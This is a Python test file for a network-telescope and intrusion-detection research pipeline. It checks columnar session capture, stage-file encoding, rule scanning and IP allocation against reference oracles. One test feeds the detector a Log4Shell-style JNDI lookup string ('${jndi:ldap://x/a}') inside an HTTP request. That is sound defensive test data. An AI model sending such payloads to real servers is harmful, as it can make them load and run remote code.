"""The cold path's one encoding, against the record path it replaced.

Capture emits the ``store`` stage's columns (:class:`SessionColumns`), the
stage writer writes them as they are, and the scan reads them and returns
an :class:`AlertTable`, so a cold run builds no ``TcpSession`` and no
``Alert``.  These tests pin each step to a reference that builds records:

* the captured columns equal the frozen per-arrival collector's sessions
  (``tests/capture_oracle.py``) packed, and its stats and ground truth,
  with preemption, negative epochs and an aware window (the generated
  streams are ``tests/test_capture_batch.py``'s);
* a captured store and a record-built store of the same sessions write
  the same ``store.cols.zlib`` bytes, and a scan's table and the plain
  alert list the same ``alerts.cols.zlib`` bytes;
* the scan equals ``tests/scan_oracle.py`` over records, over packed
  columns and over a store, port-insensitive and port-sensitive, with
  empty payloads, no alerts, two workers and a recovered chunk, with
  equal ``DetectionStats`` (``alerts_by_sid`` order included);
* the one-loop address allocation equals ``OracleIpPool`` on a region
  block small enough that collisions and the eight-probe fallback occur.
"""

from __future__ import annotations

import dataclasses
import random
from datetime import datetime, timedelta, timezone
from functools import lru_cache

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.cache.study import write_stage
from repro.exploits.rulegen import build_study_ruleset
from repro.net.pcapstore import SessionColumns, SessionStore
from repro.net.session import TcpSession
from repro.nids.engine import DetectionEngine, DetectionStats
from repro.nids.ruleset import Alert
from repro.store.columnar import AlertTable
from repro.telescope import pool as pool_module
from repro.telescope.collector import DscopeCollector
from repro.telescope.config import TelescopeConfig
from repro.telescope.pool import CloudIpPool
from repro.util.timeutil import TimeWindow, utc
from tests import capture_oracle
from tests.capture_oracle import OracleCollector, OracleIpPool
from tests.scan_oracle import ScanOracle
from tests.test_capture_batch import (
    HOUR_US,
    WINDOW,
    _arrival,
    _assert_same_capture,
    assert_same_columns,
    configs,
    streams,
)


# -- capture ------------------------------------------------------------------


def _assert_capture_equals_oracle(config, stream, *, window=WINDOW):
    new = DscopeCollector(config, window=window)
    old = OracleCollector(config, window=window)
    store = new.collect(stream)
    reference = list(old.collect(stream))
    _assert_same_capture(new, list(store), old, reference)
    assert_same_columns(store.columns(), SessionColumns.pack(reference))
    return new


def test_captured_columns_with_negative_epochs_and_preemption():
    # Two-minute tenancies over 40 slots: for the first two minutes most
    # slots are still before their first staggered tenancy (epoch -1), and
    # preempted tenancies lose later arrivals.
    config = TelescopeConfig(
        concurrent_instances=40, instance_lifetime=timedelta(minutes=2),
        preemption_rate=0.6, seed=11,
    )
    rng = random.Random(5)
    offsets = sorted(
        [rng.randrange(0, 90_000_000) for _ in range(300)]
        + [rng.randrange(0, HOUR_US) for _ in range(300)]
    )
    stream = [
        _arrival(
            offset, src=rng.choice([1, 2, 3]),
            payload=rng.choice([b"", b"x", b"GET / HTTP/1.1\r\n\r\n"]),
            truth=rng.choice([None, "CVE-2021-44228"]),
        )
        for offset in offsets
    ]
    epochs = []
    real = CloudIpPool.allocate

    def recording(self, region, slot, epoch):
        epochs.append(epoch)
        return real(self, region, slot, epoch)

    CloudIpPool.allocate = recording
    try:
        collector = _assert_capture_equals_oracle(config, stream)
    finally:
        CloudIpPool.allocate = real
    assert min(epochs) == -1
    assert collector.stats.arrivals_lost_to_preemption > 0


def test_aware_window_capture_keeps_its_zone():
    window = TimeWindow(
        datetime(2021, 3, 1, tzinfo=timezone.utc),
        datetime(2021, 3, 2, tzinfo=timezone.utc),
    )
    stream = [
        dataclasses.replace(arrival, timestamp=window.start + offset)
        for arrival in (_arrival(k * 90_000_000) for k in range(40))
        for offset in [arrival.timestamp - WINDOW.start]
    ]
    config = TelescopeConfig(concurrent_instances=3, preemption_rate=0.3, seed=2)
    collector = _assert_capture_equals_oracle(config, stream, window=window)
    assert collector.stats.sessions_captured == 40 - (
        collector.stats.arrivals_lost_to_preemption
    )


# -- stage files ----------------------------------------------------------------


@settings(max_examples=60, deadline=None)
@given(configs, streams)
def test_captured_and_record_built_stores_write_equal_bytes(
    tmp_path_factory, config, stream
):
    collector = DscopeCollector(config, window=WINDOW)
    captured = collector.collect(stream)
    # Appended in stamp (id) order, as capture filled its store when it
    # built records: the store sorts them when a start goes backwards.
    records = SessionStore()
    records.extend(sorted(captured, key=lambda session: session.session_id))
    written = []
    for store in (captured, records):
        directory = tmp_path_factory.mktemp("stage")
        write_stage(
            "store", directory,
            (store, collector.stats, collector.ground_truth),
        )
        written.append((directory / "store.cols.zlib").read_bytes())
    assert written[0] == written[1]


def test_study_stage_files_equal_the_record_encodings(study, tmp_path):
    """The study fixture's store holds capture's columns and its alerts
    are the scan's table; writing records instead gives the same bytes."""
    records = SessionStore()
    records.extend(list(study.store))
    for stage, views, plain in (
        ("store",
         (study.store, study.collection_stats, study.ground_truth),
         (records, study.collection_stats, study.ground_truth)),
        ("alerts", study.alerts, list(study.alerts)),
    ):
        files = []
        for name, value in (("view", views), ("plain", plain)):
            directory = tmp_path / f"{stage}-{name}"
            directory.mkdir()
            write_stage(stage, directory, value)
            files.append(sorted(
                (path.name, path.read_bytes()) for path in directory.iterdir()
            ))
        assert files[0] == files[1], stage


# -- scan -----------------------------------------------------------------------


@lru_cache(maxsize=None)
def _ruleset(port_insensitive: bool):
    return build_study_ruleset(port_insensitive=port_insensitive)


def _payload_pool(study):
    """Distinct payloads of the study's first sessions (alerting and not)
    plus the empty payload."""
    pool = [b""]
    for session in study.store:
        if session.payload not in pool:
            pool.append(session.payload)
        if len(pool) >= 40:
            break
    return pool


def _expected_stats(alerts, scanned):
    stats = DetectionStats(sessions_scanned=scanned)
    for alert in alerts:
        stats.sessions_alerted += 1
        stats.pre_publication_alerts += int(alert.pre_publication)
        stats.alerts_by_sid[alert.sid] = stats.alerts_by_sid.get(alert.sid, 0) + 1
    return stats


def _assert_scan(engine, result, expected_alerts, scanned):
    assert isinstance(result, AlertTable)
    assert result == expected_alerts
    expected = AlertTable.pack(expected_alerts)
    assert result.cves == expected.cves
    for name, column in expected.columns.items():
        assert result.columns[name].dtype == column.dtype, name
        assert result.columns[name].tolist() == column.tolist(), name
    stats = _expected_stats(expected_alerts, scanned)
    assert engine.stats == stats
    assert list(engine.stats.alerts_by_sid.items()) == list(
        stats.alerts_by_sid.items()
    )


@pytest.mark.parametrize("port_insensitive", [True, False])
@settings(max_examples=25, deadline=None)
@given(data=st.data())
def test_scan_equals_oracle_over_records_columns_and_store(
    study, port_insensitive, data
):
    pool = _payload_pool(study)
    rows = data.draw(st.lists(
        st.tuples(
            st.sampled_from(pool),
            st.sampled_from([80, 443, 8080, 22]),
            st.sampled_from([1024, 50000]),
            st.integers(0, 3),
        ),
        max_size=80,
    ))
    start = utc(2021, 6, 1)
    sessions, when = [], start
    for index, (payload, dst_port, src_port, step) in enumerate(rows):
        when += timedelta(hours=step)
        sessions.append(TcpSession(
            session_id=index * 3 + 7, start=when, src_ip=index, src_port=src_port,
            dst_ip=10_000 + index, dst_port=dst_port, payload=payload,
            end=when + timedelta(milliseconds=40),
        ))
    ruleset = _ruleset(port_insensitive)
    expected = ScanOracle(ruleset).scan(sessions)
    store = SessionStore()
    store.extend(sessions)
    for source in (sessions, SessionColumns.pack(sessions), store):
        engine = DetectionEngine(ruleset)
        _assert_scan(engine, engine.scan(source), expected, len(sessions))


def test_scan_of_no_alerts_is_an_empty_table(study):
    sessions = [
        TcpSession(
            session_id=index, start=utc(2022, 1, 1), src_ip=1, src_port=2,
            dst_ip=3, dst_port=80, payload=payload,
        )
        for index, payload in enumerate([b"", b"benign", b"", b"GET / x"])
    ]
    for port_insensitive in (True, False):
        engine = DetectionEngine(_ruleset(port_insensitive))
        _assert_scan(engine, engine.scan(sessions), [], len(sessions))
        assert engine.stats.telemetry.match_cache_misses == 2
        assert engine.stats.telemetry.match_cache_hits == 0


@pytest.mark.parametrize("port_insensitive", [True, False])
def test_two_worker_scan_equals_oracle(study, port_insensitive):
    ruleset = _ruleset(port_insensitive)
    expected = ScanOracle(ruleset).scan(study.store)
    engine = DetectionEngine(ruleset, workers=2, threshold=0)
    _assert_scan(engine, engine.scan(study.store), expected, len(study.store))
    assert engine.stats.telemetry.fallback_serial == 0


def test_recovered_chunk_scan_equals_oracle(study, scan_fault):
    ruleset = _ruleset(True)
    expected = ScanOracle(ruleset).scan(study.store)
    scan_fault("chunk_error:1", workers=2)
    engine = DetectionEngine(ruleset, workers=2, threshold=0)
    _assert_scan(engine, engine.scan(study.store), expected, len(study.store))
    assert engine.stats.telemetry.recovered_chunks == 1


def test_aware_scan_keeps_zones_and_is_not_stored(tmp_path):
    when = datetime(2022, 6, 1, tzinfo=timezone.utc)
    sessions = [
        TcpSession(
            session_id=1, start=when, src_ip=1, src_port=2, dst_ip=3,
            dst_port=80, payload=b"GET /${jndi:ldap://x/a} HTTP/1.1\r\n\r\n",
        )
    ]
    ruleset = _ruleset(True)
    table = DetectionEngine(ruleset).scan(sessions)
    assert table == ScanOracle(ruleset).scan(sessions)
    assert table and table[0].timestamp == when
    assert table[0].timestamp.tzinfo is not None
    with pytest.raises(ValueError, match="naive"):
        write_stage("alerts", tmp_path, table)


def test_cold_run_builds_no_records(tmp_path, monkeypatch):
    """A cold cached run captures, checkpoints, scans, saves and derives
    its analysis without building a ``TcpSession`` or an ``Alert``."""
    from repro.analysis.pipeline import StudyConfig, run_study

    built = {"sessions": 0, "alerts": 0}

    def counting(kind, function):
        def wrapper(self, *args, **kwargs):
            built[kind] += 1
            return function(self, *args, **kwargs)

        return wrapper

    monkeypatch.setattr(
        TcpSession, "__init__", counting("sessions", TcpSession.__init__)
    )
    monkeypatch.setattr(Alert, "__init__", counting("alerts", Alert.__init__))
    result = run_study(
        StudyConfig(
            seed=3, volume_scale=0.005, background_per_exploit=0.3,
            background_nvd_count=300,
        ),
        cache=tmp_path / "cache",
    )
    assert not result.from_cache and len(result.alerts) > 0
    assert built == {"sessions": 0, "alerts": 0}


# -- address allocation -----------------------------------------------------------

#: Six addresses per region: concurrent slots collide, and all eight
#: probes of some tenancies collide.
_TINY_BLOCKS = {
    region: ("10.0.0.0/30", "10.9.0.0/31") for region in pool_module.REGION_BLOCKS
}


class _CountingOracle(OracleIpPool):
    """The oracle pool, counting each allocation's colliding probes."""

    def __init__(self, *, seed):
        super().__init__(seed=seed)
        self.collisions = []

    def allocate(self, region, slot, epoch):
        self.collisions.append(0)
        return super().allocate(region, slot, epoch)

    def _collides(self, region, slot, epoch, address):
        hit = super()._collides(region, slot, epoch, address)
        self.collisions[-1] += hit
        return hit


def test_allocation_equals_oracle_on_a_tiny_block(monkeypatch):
    monkeypatch.setattr(pool_module, "REGION_BLOCKS", _TINY_BLOCKS)
    monkeypatch.setattr(capture_oracle, "REGION_BLOCKS", _TINY_BLOCKS)
    pool, oracle = CloudIpPool(seed=4), _CountingOracle(seed=4)
    for region in ("us-east-1", "eu-west-1"):
        for epoch in (-1, 0, 1, 7, 15961):
            for slot in range(24):
                assert pool.allocate(region, slot, epoch) == oracle.allocate(
                    region, slot, epoch
                ), (region, epoch, slot)
    assert any(0 < count < 8 for count in oracle.collisions)
    assert 8 in oracle.collisions
